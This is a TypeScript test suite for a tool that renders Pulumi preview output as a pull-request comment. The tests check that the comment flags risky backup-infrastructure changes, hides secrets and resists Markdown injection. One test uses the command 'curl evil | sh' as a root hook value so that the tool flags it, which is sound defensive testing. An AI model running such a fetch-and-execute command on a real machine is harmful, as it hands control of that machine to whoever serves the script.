import { describe, expect, test } from "@jest/globals";
import * as fc from "fast-check";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { FILES_TYPE } from "../../hosts/summary";
import { commentMarker, LONGEST_COMMENT, renderPreviewComment } from "../../operations/preview/comment";
import { codeSpan } from "../../operations/preview/markdown";
import { parsePreview } from "../../operations/preview/output";

/** Each is what the engine printed for one change of a stack, less what differs from run to run. */
const FIXTURES = join(__dirname, "preview-fixtures");

interface State {
  parent?: string;
  inputs?: Record<string, unknown>;
  additionalSecretOutputs?: string[];
}
interface Change {
  op: string;
  urn: string;
  oldState?: State;
  newState?: State;
}
interface PreviewJson {
  steps: Change[];
  diagnostics: { severity: string; message: string }[];
}

function fixture(name: string): PreviewJson {
  const json = JSON.parse(readFileSync(join(FIXTURES, `${name}.json`), "utf8")) as Partial<PreviewJson>;
  return { steps: [], diagnostics: [], ...json };
}

/** The inputs of every state of the steps whose URN holds `part`. */
function inputsOf(json: PreviewJson, part: string): Record<string, unknown>[] {
  return json.steps
    .filter(({ urn }) => urn.includes(part))
    .flatMap(({ oldState, newState }) => [oldState?.inputs, newState?.inputs])
    .filter((inputs) => inputs !== undefined);
}

const names = readdirSync(FIXTURES).map((file) => file.replace(/\.json$/, ""));

/**
 * The text without its code spans and fenced blocks, by CommonMark's rule that a run of backticks is closed by the
 * next run of the same length: what is left is what Markdown would read as markup.
 */
function markup(text: string): string {
  return text
    .replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, "")
    .replace(/(?<!`)(`+)(?!`)([\s\S]*?)(?<!`)\1(?!`)/g, "");
}

describe("the comment on real previews", () => {
  test.each(names)("%s", (name) => {
    expect(renderPreviewComment(fixture(name), "prod")).toMatchSnapshot();
  });

  test("explains each change", () => {
    const says = (name: string): string => renderPreviewComment(fixture(name), "prod");
    expect(says("new-client")).toContain("client `appsrv3` (`vm`) is added");
    expect(says("new-client")).toContain("proxy `rclonesrv` now admits `appsrv3/files`");
    expect(says("removed-client")).toMatch(
      /> \[!WARNING\][\s\S]*> - host `appsrv1` is \*\*destroyed with its disk\*\*/,
    );
    expect(says("renamed-repository")).toContain("repository `appsrv2/database` is renamed `postgres`");
    expect(says("path-change")).toContain("also backs up `/srv/data`; no longer backs up `/srv/files`");
    expect(says("key-rotation")).toContain("rotated keys: `appsrv2-database`");
    expect(says("host-replacement")).toContain(
      "host `rclonesrv` is **destroyed and rebuilt** because of `keyPair`",
    );
    expect(says("bucket")).toContain("the bucket's policy loses `Deny` statement `KeepEverything`");
    expect(says("network-rules")).toContain("open to the whole internet: `tcp 22` from `0.0.0.0/0`");
    expect(says("protected-host")).toContain("**The preview failed: this cannot be applied as it is.**");
    expect(says("upgrade-from-0.1.0")).toMatch(
      /- `rclonesrv` is updated:\n {2}- its files are recorded in a new form and written again: `proxy rclonesrv: rclone 1.76.0 /,
    );
    expect(says("no-change")).toContain("**No changes: 43 resources unchanged.**");
  });

  test("an upgrade names the files that the version before did not have, such as timers", () => {
    const json = structuredClone(fixture("upgrade-from-0.1.0")) as {
      steps: { urn: string; newState?: { inputs: Record<string, unknown> } }[];
    };
    const files = json.steps.find(({ urn }) => urn.includes("secure-backups:hosts:Files::"));
    Object.assign(files?.newState?.inputs ?? {}, {
      "/etc/systemd/system/restic-backup@main.timer": {
        mode: "0644",
        owner: "root:root",
        digest: "0123456789ab",
        concerns: ['backs up on the schedule "daily", 7 min after it'],
      },
    });
    expect(renderPreviewComment(json, "prod")).toMatch(
      /written again: .*\n {2}- `\/etc\/systemd\/system\/restic-backup@main.timer` added .* `backs up on the schedule "daily", 7 min after it`\n/,
    );
  });

  test("does not depend on the order of the engine's steps", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...names).chain((name) => shuffledSteps(fixture(name))),
        ([json, shuffled]) => {
          expect(renderPreviewComment(shuffled, "prod")).toBe(renderPreviewComment(json, "prod"));
        },
      ),
      { numRuns: 60 },
    );
  });

  test("names a commit, and nothing that is not a commit", () => {
    expect(renderPreviewComment(fixture("bucket"), "prod", "0123456789abcdef0123")).toContain(
      "Previewed at commit 0123456789ab.",
    );
    expect(renderPreviewComment(fixture("bucket"), "prod", "x](http://example.net)")).not.toContain(
      "example",
    );
  });
});

function shuffledSteps(json: PreviewJson): fc.Arbitrary<[PreviewJson, PreviewJson]> {
  return fc
    .shuffledSubarray(json.steps, { minLength: json.steps.length })
    .map((steps) => [json, { ...json, steps }]);
}

describe("dangers of a change of the configuration", () => {
  const STACK = "urn:pulumi:prod::secure-backups::";
  type Inputs = Record<string, unknown>;

  function update(type: string, before: Inputs, after: Inputs, name = "web"): Change {
    const states = { oldState: { inputs: before }, newState: { inputs: after } };
    return { op: "update", urn: `${STACK}${type}::${name}`, ...states };
  }

  /** The lines of the warning on top, and all others. */
  function explained(...steps: Change[]): { dangers: string[]; plain: string } {
    const lines = renderPreviewComment({ steps, diagnostics: [] }, "prod").split("\n");
    return {
      dangers: lines.filter((line) => line.startsWith("> - ")).map((line) => line.slice(4)),
      plain: lines.filter((line) => !line.startsWith(">")).join("\n"),
    };
  }

  const ours = { address: "192.0.2.7", port: 22, user: "root", hostKey: "ssh-ed25519 AAAAours" };
  const theirs = { ...ours, address: "203.0.113.9", port: 2222 };

  describe("a client's machine", () => {
    const CLIENT = "secure-backups:index:Client";
    const repositories = [{ name: "files", paths: ["/etc"], excludes: [] }];
    const existing = { kind: "existing", repositories, ssh: ours };
    const elsewhere = "client `web`: its passwords and keys are sent to another machine: ";

    test.each([
      [
        "another address",
        existing,
        { ...existing, ssh: theirs },
        "`root@192.0.2.7:22` → `root@203.0.113.9:2222`",
      ],
      [
        "another host key",
        existing,
        { ...existing, ssh: { ...ours, hostKey: "ssh-ed25519 AAAAtheirs" } },
        "`root@192.0.2.7:22` → `root@192.0.2.7:22`, with another host key",
      ],
      ["a first SSH target", { kind: "vm", repositories }, existing, "`vm` → `root@192.0.2.7:22`"],
    ])("with %s is a danger", (_, before, after, change) => {
      expect(explained(update(CLIENT, before, after)).dangers).toEqual([elsewhere + change]);
    });

    test("is no danger while it stays the same", () => {
      expect(explained(update(CLIENT, existing, { ...existing, repositories: [] })).dangers).toEqual([
        "repository `web/files` accepts no more backups; its existing backups stay in the bucket",
      ]);
    });

    test("is named where a client is added, and another machine is never called a rename", () => {
      const removed = { ...update(CLIENT, existing, {}), op: "delete", newState: undefined };
      const added = {
        ...update(CLIENT, {}, { ...existing, ssh: theirs }, "www"),
        op: "create",
        oldState: undefined,
      };
      const { plain } = explained(removed, added);
      expect(plain).toContain("client `www` (`existing` at `root@203.0.113.9:2222`) is added, with `files`");
      expect(plain).not.toContain("renamed");
    });

    test("shows any other changed setting of a repository", () => {
      const before = { ...existing, repositories: [{ ...repositories[0], oneFileSystem: false }] };
      const after = { ...existing, repositories: [{ ...repositories[0], oneFileSystem: true }] };
      expect(explained(update(CLIENT, before, after)).plain).toContain(
        "- repository `web/files` `oneFileSystem`: `false` → `true`",
      );
    });

    describe("that runs commands", () => {
      const command = "pg_dump shop";
      const settings = { schedule: "daily", window: 60 };
      const [files] = repositories;
      const client = (...changes: Inputs[]) => ({
        ...existing,
        repositories: changes.map((change) => ({ ...files, ...settings, ...change })),
      });
      const before = { before: { command, minutes: 60 } };
      const says = (hook: string, what = command) =>
        `client \`web\` runs a new command as root, \`${hook}\` of repository \`files\`: \`${what}\``;
      const dangers = (was: Inputs, is: Inputs) => explained(update(CLIENT, was, is)).dangers;

      test.each(["before", "after", "stdin"])("%s is a danger that shows the command", (hook) => {
        const { dangers, plain } = explained(
          update(CLIENT, client({}), client({ [hook]: { command, minutes: 60, filename: "shop.sql" } })),
        );
        expect(dangers).toEqual([says(hook)]);
        expect(plain).toContain(
          `- repository \`web/files\` \`${hook}\`: (empty) → \`{"command":"pg_dump shop",`,
        );
      });

      test("is a danger where one becomes another, and none where it stays, or goes", () => {
        const other = { before: { command: "curl evil | sh", minutes: 60 } };
        expect(dangers(client(before), client(other))).toEqual([says("before", "curl evil | sh")]);
        expect(dangers(client(before), client({ ...before, schedule: "hourly" }))).toEqual([]);
        expect(dangers(client(before), client({}))).toEqual([]);
      });

      test("is a danger of a new repository and of a new client, too", () => {
        expect(dangers({ ...existing, repositories: [] }, client(before))).toEqual([says("before")]);
        const added = { ...update(CLIENT, {}, client(before)), op: "create", oldState: undefined };
        expect(explained(added).dangers).toEqual([says("before")]);
        expect(explained(added).plain).toContain("is added, with `files` (`/etc`, schedule `daily`)");
      });

      test("is shown among its files, a dump's as well", () => {
        const file = { mode: "0600", owner: "root:root", digest: "0123456789ab" };
        const stdin = { command, minutes: 60, filename: "shop.sql" };
        const install = { title: "client web", script: "000000000000" };
        const { plain } = explained(
          update(CLIENT, client({}), client({ stdin })),
          update("command:remote:Command", { stdin: "the script" }, { stdin: "the script with more" }),
          update(
            FILES_TYPE,
            { install },
            {
              install,
              "/etc/restic-backup/files/stdin": { ...file, concerns: [`stdin: runs "${command}"`] },
            },
          ),
        );
        expect(plain).toContain(
          '- `/etc/restic-backup/files/stdin` added (`0600 root:root`); with `stdin: runs "pg_dump shop"`',
        );
        expect(plain).not.toContain("the script with");
      });
    });

    test("backs up on another schedule: without one it stops, which is a danger", () => {
      const on = (schedule?: string) => ({
        ...existing,
        repositories: [{ ...repositories[0], ...(schedule === undefined ? {} : { schedule }) }],
      });
      const change = (was?: string, is?: string) => explained(update(CLIENT, on(was), on(is)));
      const stops = ["client `web` no longer backs up repository `files` by itself"];
      expect(change("daily", "none").dangers).toEqual(stops);
      for (const [was, is] of [
        ["daily", "weekly"],
        ["none", "daily"],
        [undefined, "none"],
      ]) {
        expect(change(was, is).dangers).toEqual([]);
      }
      expect(change("daily", "weekly").plain).toContain(
        "- repository `web/files` `schedule`: `daily` → `weekly`",
      );
      expect(change(undefined, "daily").plain).toContain(
        "- repository `web/files` `schedule`: (empty) → `daily`",
      );
    });

    test("is frozen, and is no longer frozen", () => {
      const frozen = (before: boolean, after: boolean): string =>
        explained(update(CLIENT, { ...existing, frozen: before }, { ...existing, frozen: after })).plain;
      expect(frozen(false, true)).toContain(
        "- client `web` is frozen: its keys stop working, its machine is not changed",
      );
      expect(frozen(true, false)).toContain("- client `web` is no longer frozen: its keys work again");
      expect(frozen(true, true)).not.toMatch(/- client .*frozen/);
    });
  });

  test("another jump host is a danger, and so is a first one", () => {
    const OPERATOR = "secure-backups:index:Operator";
    const says = "the hosts are reached through another jump host: ";
    expect(explained(update(OPERATOR, { jumpHost: ours }, { jumpHost: theirs })).dangers).toEqual([
      `${says}\`root@192.0.2.7:22\` → \`root@203.0.113.9:2222\``,
    ]);
    expect(explained(update(OPERATOR, {}, { jumpHost: theirs })).dangers).toEqual([
      `${says}\`no jump host\` → \`root@203.0.113.9:2222\``,
    ]);
    expect(explained(update(OPERATOR, { jumpHost: ours }, { jumpHost: ours })).dangers).toEqual([]);
  });

  describe("the program of a host", () => {
    const file = { mode: "0644", owner: "root:root", digest: "0123456789ab", concerns: [] };
    const program = "restic 0.19.1 (sha256 aaaaaaaaaaaa) from https://example.org/restic";
    const installed = (program: string, script: string): Inputs => ({
      install: { title: `client web: ${program}`, script },
      "/etc/paths": file,
    });
    const change = (to: string): ReturnType<typeof explained> =>
      explained(
        update("command:remote:Command", {}, {}),
        update(FILES_TYPE, installed(program, "000000000000"), installed(to, "111111111111")),
      );

    test.each([
      ["version", program.replace("0.19.1", "0.19.2")],
      ["checksum", program.replace("aaaaaaaaaaaa", "bbbbbbbbbbbb")],
      ["URL", program.replace("example.org", "example.net")],
    ])("with another %s is a danger", (_, to) => {
      expect(change(to).dangers).toEqual([
        `host \`web\` runs another program as root: \`client web: ${program}\` → \`client web: ${to}\``,
      ]);
    });

    test("is no danger while it stays the same and only the install script changes", () => {
      const { dangers, plain } = change(program);
      expect(dangers).toEqual([]);
      expect(plain).toContain("  - the install script changes, no file does");
    });
  });

  test("a security group that a port joins is a danger, one that it leaves is not", () => {
    const PORT = "openstack:networking/port:Port";
    const groups = (...securityGroupIds: string[]): Inputs => ({ securityGroupIds });
    const joined = explained(update(PORT, groups("closed"), groups("closed", "open")));
    expect(joined.dangers).toEqual([
      "the port of `web` joins security groups `open`: their rules apply to it",
    ]);
    const left = explained(update(PORT, groups("closed", "open"), groups("closed")));
    expect(left.dangers).toEqual([]);
    expect(left.plain).toMatch(/### Network\n\n- the port of `web` leaves security groups `open`/);
    const unknown = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";
    expect(explained(update(PORT, groups("closed"), { securityGroupIds: unknown })).dangers).toEqual([
      "the port of `web` joins security groups `(known later)`: their rules apply to it",
    ]);
  });

  test("switching versioning off is a danger", () => {
    const bucket = { bucket: "databucket", policies: [{ name: "whole", policy: "{}" }] };
    const change = (before: boolean, after: boolean): ReturnType<typeof explained> =>
      explained(
        update(
          "secure-backups:index:BackupBucket$pulumi-nodejs:dynamic/s3:Bucket",
          { ...bucket, versioned: before },
          { ...bucket, versioned: after },
        ),
      );
    expect(change(true, false).dangers).toEqual(["versioning of bucket `databucket`: on → off"]);
    expect(change(false, true).dangers).toEqual([]);
    expect(change(false, true).plain).toContain("- versioning of bucket `databucket`: off → on");
  });

  test("giving up the backups is a danger", () => {
    const change = (before: boolean, after: boolean): ReturnType<typeof explained> =>
      explained(
        update(
          "secure-backups:index:Operator$pulumi-nodejs:dynamic/s3:RootKeyLock",
          { bucket: "databucket", givenUp: before },
          { bucket: "databucket", givenUp: after },
        ),
      );
    expect(change(false, true).dangers).toEqual([
      "the backups in `databucket` are given up: a destroy then removes the root key, and they can no longer be read",
    ]);
    expect(change(true, false).dangers).toEqual([]);
    expect(change(true, false).plain).toContain("are no longer given up");
  });

  test("a way by which alarms are no longer sent is a danger, and so is the end of the last one", () => {
    const ways = (before: string[], after: string[]): ReturnType<typeof explained> =>
      explained(update("secure-backups:index:Keeper", { alarms: before }, { alarms: after }));
    const [mail, hook] = ["e-mail to ops@example.com", "webhook `team`"];
    expect(ways([mail], [mail])).toMatchObject({ dangers: [], plain: expect.not.stringContaining("alarms") });
    expect(ways([mail], [mail, hook])).toMatchObject({
      dangers: [],
      plain: expect.stringContaining("alarms are sent by `` webhook `team` ``"),
    });
    expect(ways([mail, hook], [hook]).dangers).toEqual([
      "alarms are no longer sent by `e-mail to ops@example.com`",
    ]);
    const none = ways([mail], []);
    expect(none.dangers).toHaveLength(1);
    expect(none.plain).toContain("no message is sent when something is amiss");
    expect(ways([], []).plain).not.toContain("no message is sent");
  });

  test("keeping old versions for less time and weakening the object lock are dangers", () => {
    const lock = (mode: string, days: number) => ({ retention: { mode, days } });
    const change = (before: object, after: object): ReturnType<typeof explained> =>
      explained(
        update(
          "secure-backups:index:BackupBucket$pulumi-nodejs:dynamic/s3:Bucket",
          { bucket: "databucket", policies: [], ...before },
          { bucket: "databucket", policies: [], ...after },
        ),
      );
    const days = (noncurrentVersionDays: number) => ({ noncurrentVersionDays });
    expect(change(days(30), days(1)).dangers).toEqual([
      "bucket `databucket` keeps old versions for `30` → `1` days",
    ]);
    expect(change(days(30), days(60)).dangers).toEqual([]);
    expect(change({}, lock("GOVERNANCE", 30)).dangers).toEqual([]);
    expect(change(lock("GOVERNANCE", 30), lock("COMPLIANCE", 30)).dangers).toEqual([]);
    for (const weaker of [{}, lock("GOVERNANCE", 30), lock("COMPLIANCE", 29)]) {
      expect(change(lock("COMPLIANCE", 30), weaker).dangers).toHaveLength(1);
    }
  });

  test("every form of the bucket's policy is compared", () => {
    const form = (name: string, ...sids: string[]) => ({
      name,
      policy: JSON.stringify({ Statement: sids.map((Sid) => ({ Sid, Effect: "Deny" })) }),
    });
    const change = (before: object[], after: object[]): ReturnType<typeof explained> =>
      explained(
        update(
          "secure-backups:index:BackupBucket$pulumi-nodejs:dynamic/s3:Bucket",
          { bucket: "databucket", policies: before },
          { bucket: "databucket", policies: after },
        ),
      );
    expect(change([form("long", "A", "B"), form("short", "A")], [form("long", "A")]).dangers).toEqual([
      "the bucket's policy loses `Deny` statement `B`",
    ]);
    expect(change([form("long", "A")], [form("long", "A"), form("short")]).dangers).toEqual([
      "the bucket's policy may take another form: `short`",
    ]);
  });

  test.each([
    ["0.0.0.0/0", true],
    ["128.0.0.0/1", true],
    ["10.0.0.0/7", true],
    ["10.0.0.0/8", false],
    ["192.0.2.1", false],
    ["::/0", true],
    ["2000::/3", true],
    ["2000::/15", true],
    ["2001::/16", false],
  ])("SSH from %s: open to the whole internet is %s", (remoteIpPrefix, everywhere) => {
    const rule = {
      direction: "ingress",
      protocol: "tcp",
      portRangeMin: 22,
      portRangeMax: 22,
      remoteIpPrefix,
    };
    const { dangers } = explained({
      ...update("openstack:networking/secGroupRule:SecGroupRule", {}, rule),
      op: "create",
      oldState: undefined,
    });
    expect(dangers).toEqual(
      everywhere
        ? [expect.stringContaining(`open to the whole internet: \`tcp 22\` from \`${remoteIpPrefix}\``)]
        : [],
    );
  });

  test("the root key is the operator's, not that of a client's repository with its name", () => {
    const KEY = "tls:index/privateKey:PrivateKey";
    const removed = (parent: string): ReturnType<typeof explained> => {
      const step = update(`${parent}$${KEY}`, { algorithm: "ED25519" }, {}, "repository-root");
      const oldState = { ...step.oldState, parent: `${STACK}${parent}::any` };
      return explained({ ...step, op: "delete", oldState, newState: undefined });
    };
    expect(removed("secure-backups:index:Operator").dangers).toEqual([
      expect.stringMatching(/^the root key `repository-root` is deleted: every repository password/),
    ]);
    const ofClient = removed("secure-backups:index:ClientKeys");
    expect(ofClient.dangers).toEqual([]);
    expect(ofClient.plain).toContain("- removed keys: `repository-root`");
  });
});

describe("secrets", () => {
  const SIGNATURE = "4dabf18193072939515e22adb298388d";
  const secretText = fc
    .string({
      unit: fc.constantFrom(...Array.from("abcdefghkmnpqrstuvwxyzABCDEFGHKLMNPQ23456789+/=-_. `|$")),
      minLength: 10,
      maxLength: 60,
    })
    .filter((text) => text.trim() === text);

  /** Puts a secret everywhere a preview made with plain secrets could have one. */
  function plant(json: PreviewJson, secret: string): void {
    for (const { oldState, newState } of json.steps) {
      for (const state of [oldState, newState]) {
        if (state?.inputs) {
          state.inputs.stdin = `line one\nRESTIC_PASSWORD=${secret}\n`;
          state.inputs.connection = { host: "192.0.2.1", privateKey: secret, proxy: { password: secret } };
          state.inputs.userData = secret;
          state.inputs.listed = secret;
          state.additionalSecretOutputs = ["listed"];
          state.inputs.owner = { accessKeyId: "AKIA", secretAccessKey: secret };
          state.inputs.encoded = {
            [SIGNATURE]: "1b47061264138c4ac30d75fd1eb44270",
            plaintext: JSON.stringify(secret),
          };
        }
      }
    }
  }

  const withInputs = names.filter((name) => inputsOf(fixture(name), "").length > 0);

  test("no secret of the preview is in the comment, wherever else its value appears", () => {
    fc.assert(
      fc.property(fc.constantFrom(...withInputs), secretText, (name, secret) => {
        const json = fixture(name);
        plant(json, secret);
        json.diagnostics.push({ severity: "error", message: `error: login with ${secret} failed` });
        for (const inputs of inputsOf(json, FILES_TYPE)) {
          inputs.install = { title: `a title with ${secret}`, script: secret };
          inputs[`/etc/${secret}`] = { mode: "0600", owner: secret, digest: secret, concerns: [secret] };
        }
        for (const inputs of inputsOf(json, "index:Client::")) {
          inputs.repositories = [{ name: secret, paths: [`/${secret}`], excludes: [secret] }];
        }
        const comment = renderPreviewComment(json, "prod");
        expect(comment).not.toContain(secret);
      }),
      { numRuns: 150 },
    );
  });

  test("a value that is marked as secret is shown as (secret)", () => {
    const json = fixture("path-change");
    for (const inputs of inputsOf(json, "index:Client::")) {
      inputs.kind = { [SIGNATURE]: "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:AAAA:BBBB" };
      inputs.repositories = [{ name: "files", paths: ["[secret]"], excludes: [] }];
    }
    const [before] = inputsOf(json, "index:Client::");
    (before as { repositories: unknown }).repositories = [{ name: "files", paths: ["/etc"], excludes: [] }];
    const comment = renderPreviewComment(json, "prod");
    expect(comment).toContain("also backs up `(secret)`");
    expect(comment).not.toContain("AAAA");
  });

  test("encoded values and the code of dynamic providers are shown as digests at most", () => {
    const json = fixture("bucket");
    const key =
      "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----";
    const encoded = Buffer.from(Array.from({ length: 90 }, (_, i) => (i * 37) % 256)).toString("base64");
    inputsOf(json, "BackupBucket").forEach((inputs, index) => {
      inputs.region = `${encoded}${index} ${key}`;
      inputs.__provider = `exports.handler = ${index}`;
    });
    const comment = renderPreviewComment(json, "prod");
    expect(comment).toMatch(/the `region` of bucket `databucket` changes: `#[0-9a-f]{12} \(secret\)` → /);
    expect(comment).toContain("`__provider`");
    expect(comment).not.toContain(encoded.slice(0, 24));
    expect(comment).not.toContain("b3BlbnNzaC1rZXk");
    expect(comment).not.toContain("exports.handler");
  });

  test("paths, names and fingerprints of public keys are shown as they are", () => {
    const json = fixture("path-change");
    const path = "/srv/Projects2024/CustomerData/Archive/Frankfurt01";
    const line = `appsrv1/files SHA256:${"Ab0+/".repeat(8)}xyz`;
    for (const [index, inputs] of inputsOf(json, "index:Client::").entries()) {
      inputs.repositories = [{ name: "files", paths: index === 0 ? [] : [path], excludes: [] }];
    }
    for (const [index, inputs] of inputsOf(json, FILES_TYPE).entries()) {
      const concerns = [index === 0 ? "none" : line];
      inputs["/etc/keys"] = { mode: "0644", owner: "root:root", digest: `0123456789a${index}`, concerns };
    }
    const comment = renderPreviewComment(json, "prod");
    expect(comment).toContain(`\`${path}\``);
    expect(comment).toContain(`gains \`${line}\`; loses \`none\``);
  });
});

describe("form", () => {
  const hostile = fc.oneof(
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.string({
      unit: fc.constantFrom("`", "|", "\n", "<", ">", "!", "-", "*", "[", "](x)", "</details>", " ", "a"),
      maxLength: 60,
    }),
  );

  test("no name or value breaks out of its code span, its line or its table cell", () => {
    fc.assert(
      fc.property(hostile, hostile, (one, two) => {
        const json = fixture("new-client");
        for (const inputs of inputsOf(json, "index:Client::")) {
          inputs.kind = two;
          inputs.repositories = [{ name: one, paths: [two, one], excludes: [one] }];
        }
        for (const inputs of inputsOf(json, FILES_TYPE)) {
          inputs.install = { title: one, script: "0123456789ab" };
          for (const path of Object.keys(inputs).filter((key) => key.startsWith("/"))) {
            inputs[path] = { mode: "0644", owner: "root:root", digest: "0123456789ab", concerns: [one] };
          }
          inputs[`/${two}`] = { mode: "0644", owner: two, digest: "0123456789ab", concerns: [one] };
        }
        for (const step of json.steps) {
          step.urn = step.urn.replace(/::appsrv3$/, () => `::${one}`);
        }
        json.diagnostics.push({ severity: "error", message: one }, { severity: "warning", message: two });
        const comment = renderPreviewComment(json, "prod");
        const rest = markup(comment);
        expect(rest).not.toContain("`");
        expect(rest.match(/<[^>]*>/g)).toEqual([
          "<!-- secure-backups preview: prod -->",
          "<details>",
          "<summary>",
          "</summary>",
          "</details>",
        ]);
        expect(rest).not.toMatch(/\]\(|!\[/);
        for (const row of comment.split("\n").filter((line) => /^\| `(create|update)/.test(line))) {
          expect(row.match(/(?<!\\)\|/g)).toHaveLength(5);
        }
      }),
      { numRuns: 150 },
    );
  });

  test("a code span shows its text, but for white space and length", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("`", "a", " ", "|"), minLength: 1, maxLength: 30 }),
        (text) => {
          fc.pre(text.trim() !== "");
          const [, fence, body] = /^(`+)([\s\S]*)\1$/.exec(codeSpan(text)) ?? [];
          expect(fence).toBeDefined();
          expect((body as string).match(/`+/g) ?? []).not.toContain(fence);
          const stripped =
            /^ .* $/.test(body as string) && (body as string).trim() !== "" ? body?.slice(1, -1) : body;
          expect(stripped).toBe(text);
        },
      ),
    );
  });

  test("invisible and direction-changing characters are made visible", () => {
    const json = fixture("new-client");
    for (const inputs of inputsOf(json, "index:Client::")) {
      inputs.kind = "vm\u202egnp\u200b\u0007";
    }
    expect(renderPreviewComment(json, "prod")).toContain("`vm\\u202egnp\\u200b\\u0007`");
  });

  test("the comment is bounded and says what it leaves out", () => {
    fc.assert(
      fc.property(fc.integer({ min: 2, max: 400 }), fc.constantFrom("x", "é", "😀"), (copies, char) => {
        const json = fixture("removed-client");
        const pattern = json.steps;
        json.steps = Array.from({ length: copies }, (_, index) => index).flatMap((index) =>
          pattern
            .slice(0, 1 + (index % pattern.length))
            .map((step) => ({ ...step, urn: `${step.urn}${char.repeat(90)}${index}` })),
        );
        json.diagnostics = [{ severity: "error", message: `${char.repeat(500)}\n`.repeat(copies) }];
        const comment = renderPreviewComment(json, "prod");
        expect(Buffer.byteLength(comment)).toBeLessThanOrEqual(LONGEST_COMMENT);
        expect(comment.trimEnd().endsWith("</details>")).toBe(true);
        if (copies > 200) {
          expect(comment).toMatch(/^\| … and \d+ more, cut for length/m);
          expect(comment).toMatch(/^> - … and \d+ more, cut for length/m);
        }
      }),
      { numRuns: 8 },
    );
  });

  test("it begins with the hidden line by which posting finds it again", () => {
    expect(renderPreviewComment(fixture("bucket"), "eu-1").startsWith(`${commentMarker("eu-1")}\n`)).toBe(
      true,
    );
    expect(() => renderPreviewComment(fixture("bucket"), "prod --> <b>")).toThrow(
      '"prod --> <b>" is not the name of a stack',
    );
  });
});

describe("an output that is not a whole preview", () => {
  test.each([[null], ["text"], [[]], [{ steps: 3 }], [{ steps: [{ op: "create" }] }], [{ steps: [null] }]])(
    "%j is refused",
    (json) => {
      expect(() => renderPreviewComment(json, "prod")).toThrow(
        "this is not the output of `pulumi preview --json`",
      );
    },
  );

  test("an engine that failed before it reported anything is quoted", () => {
    const comment = renderPreviewComment(parsePreview("", "error: no stack named 'prod' found\n"), "prod");
    expect(comment).toContain("**The preview failed: this cannot be applied as it is.**");
    expect(comment).toContain("no stack named 'prod' found");
    expect(comment).not.toContain("No changes");
    expect(renderPreviewComment(parsePreview('{"steps":[]}', ""), "prod")).toContain(
      "pulumi preview failed without a message",
    );
  });

  test.each([[""], ["panic: the engine stopped"], ['{"steps": [']])(
    "a failure is reported even if the engine printed %j",
    (output) => {
      const comment = renderPreviewComment(parsePreview(output, "error: out of memory"), "prod");
      expect(comment).toContain("**The preview failed: this cannot be applied as it is.**");
      expect(comment).toContain("out of memory");
      expect(() => parsePreview(output)).toThrow("standard input is not JSON");
    },
  );

  describe("other output around the document", () => {
    const document = readFileSync(join(FIXTURES, "path-change.json"), "utf8");
    const packs = "Loading policy packs...\n{not: json}\n{}";

    test.each([
      ["before it", `${packs}\n${document}`, packs],
      ["after it", `${document}\nPolicies:\n    { all: well }\n}`, "Policies:\n    { all: well }\n}"],
      ["with line ends of Windows", `${packs}\r\n${document.replaceAll("\n", "\r\n")}`, packs],
      [
        "around a document in one line",
        `${packs}\n${JSON.stringify(JSON.parse(document))}\nbye`,
        `${packs}\nbye`,
      ],
    ])("%s becomes a warning, and the comment is the same otherwise", (_, output, around) => {
      const parsed = parsePreview(output) as PreviewJson;
      const { diagnostics, ...rest } = parsed;
      const plain = fixture("path-change");
      expect(rest).toEqual({ ...plain, diagnostics: undefined });
      expect(diagnostics.at(-1)).toEqual({ severity: "warning", message: around });
      const comment = renderPreviewComment(parsed, "prod");
      expect(comment).toContain("also backs up `/srv/data`");
    });

    test("is the error where there is no document", () => {
      expect(renderPreviewComment(parsePreview("policy pack: no such file\n", ""), "prod")).toContain(
        "policy pack: no such file",
      );
      expect(() => parsePreview("policy pack: no such file\n")).toThrow("is not JSON");
    });
  });

  test("the engine's own report is preferred", () => {
    const json = fixture("protected-host");
    expect(parsePreview(JSON.stringify(json), "noise")).toEqual(json);
  });
});
